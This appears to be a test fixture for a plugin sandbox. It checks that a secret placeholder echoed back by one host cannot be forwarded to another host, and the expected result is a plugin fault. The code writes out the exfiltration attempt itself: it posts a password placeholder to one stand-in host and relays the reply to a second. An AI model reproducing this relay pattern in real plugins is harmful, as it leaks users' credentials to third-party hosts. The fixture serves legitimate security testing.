// Tries: to take the placeholder that an echo left, and send it to another host.
// Keeps: wherever it comes from, it goes to its host only.
// Hosts: {HOLDER} {OTHER}
// Outcome: PluginFault
// Ledger: secret
// Requests: 1
exports.sync = function (hub) {
    var echo = hub.http.post("http://{HOLDER}/echo", { form: { p: "{{password}}" } }).text;
    hub.http.post("http://{OTHER}/echo", { body: echo });
    hub.log("broke out");
};
